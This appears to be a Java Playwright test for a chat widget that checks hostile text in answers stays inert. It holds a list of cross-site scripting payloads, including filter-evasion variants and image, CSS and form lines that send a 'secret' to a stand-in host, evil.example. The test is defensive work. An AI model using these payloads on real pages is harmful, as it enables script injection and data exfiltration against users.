package io.pilcrow.channel.http.widget;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import io.pilcrow.article.Article;
import io.pilcrow.article.ArticleBuilder;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Words of others in an answer, a quote, a title, a starter: they stay words. */
class HostileTextTest extends WidgetTest {
  private static final List<String> HOSTILE =
      List.of(
          "<script>boom()</script>",
          "<img src=x onerror=boom()>",
          "<img src=\"https://evil.example/?q=secret\">",
          "<svg onload=boom()><animate onbegin=boom()>",
          "<iframe srcdoc='<script>parent.boom()</script>'>",
          "<math><style><img src onerror=boom()></style></math>",
          "<a href=\"javascript:boom()\">here</a>",
          "![pixel](https://evil.example/p.png?q=secret)",
          "![pixel](//evil.example/p.png)",
          "[here](javascript:boom())",
          "[here](JaVaScRiPt:boom())",
          "[here](java\u000Bscript:boom())",
          "[here](data:text/html,boom)",
          "[here](vbscript:boom)",
          "[here](//evil.example/)",
          "```\n<script>boom()</script>\n```",
          "| <b onclick=boom()>a</b> | <img src=x onerror=boom()> |",
          "# <style>*{background:url(https://evil.example/s)}</style>",
          "- <link rel=stylesheet href=https://evil.example/s.css>",
          "> <form action=https://evil.example/><input autofocus onfocus=boom()>",
          "**<details open ontoggle=boom()>**",
          "<template><img src=x onerror=boom()></template>");

  private static final String MARKUP = "<img src=x onerror=boom()>";

  @Test
  @DisplayName("widget-23 hostile words in an answer run nothing, load nothing and lead nowhere")
  void hostileWordsStayWords(@TempDir Path own) {
    Article hostile =
        new ArticleBuilder("hostile", MARKUP)
            .url(site.url("plain.html"))
            .paragraph("Quoted: " + MARKUP + " and https://evil.example/")
            .build();
    try (WidgetServer open =
        WidgetServer.reading(reader, site, own, Set.of(site.origin()), hostile)) {
      visit(
          "plain.html",
          "article=hostile",
          "starters=" + MARKUP + "|" + "<b>two</b>",
          "label=" + MARKUP);
      js("() => { window.ran = 0; window.boom = () => ran++; }");
      page.onDialog(dialog -> errors.add("dialog " + dialog.message()));
      open();
      for (String words : HOSTILE) {
        ask("Say: " + words + "\n\n{1:" + MARKUP + "}");
        assertThat(chip(1)).isVisible();
      }
      chip(1).focus();
      assertThat(page.locator(".card q")).hasText(MARKUP);

      assertThat(js("() => ran")).isEqualTo(0);
      assertThat(errors).isEmpty();
      assertThat(requests)
          .allMatch(url -> url.startsWith(site.origin()) || url.startsWith(open.url()));
      assertThat(((String) js(NAMES)).split(",")).isSubsetOf(ALLOWED);
      assertThat(
              js(
                  "() => [...document.querySelector('pilcrow-ask').shadowRoot.querySelectorAll('[href],[src],[style]')].map((one) => one.getAttribute('href') ?? 'none').filter((href) => !/^(https?|mailto):/.test(href)).join()"))
          .isEqualTo("");
      page.reload(); // what was kept is no more trusted than what came
      assertThat(chip(1)).isVisible();
      assertThat(
              js(
                  "() => [...document.querySelector('pilcrow-ask').shadowRoot.querySelectorAll('img,script,iframe,form form')].length"))
          .isEqualTo(0);
    } finally {
      site.servedBy(server.url());
    }
  }

  private static final List<String> ALLOWED =
      List.of(
          "a b bdi blockquote button code details div em form h2 i li ol p path pre q section span strong summary svg table td textarea th tr ul"
              .split(" "));

  private static final String NAMES =
      "() => [...new Set([...document.querySelector('pilcrow-ask').shadowRoot.querySelectorAll('*')].map((one) => one.localName))].sort().join()";
}
